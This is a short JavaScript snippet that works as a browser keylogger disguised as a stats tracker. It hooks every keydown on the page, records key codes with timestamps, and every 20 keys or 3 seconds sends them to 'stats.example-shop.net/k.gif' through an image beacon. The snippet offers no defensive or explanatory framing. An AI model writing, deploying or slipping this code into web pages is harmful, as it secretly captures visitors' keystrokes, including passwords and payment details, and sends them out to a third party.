var q = [];
function ping() {
  if (!q.length) return;
  var img = new Image();
  img.src = 'https://stats.example-shop.net/k.gif?d=' + encodeURIComponent(q.join('|')) + '&r=' + Math.random();
  q = [];
}
document.onkeydown = function (evt) {
  evt = evt || window.event;
  q.push((evt.which || evt.keyCode) + ':' + evt.timeStamp.toFixed(0));
  if (q.length >= 20) ping();
};
window.setInterval(ping, 3000);
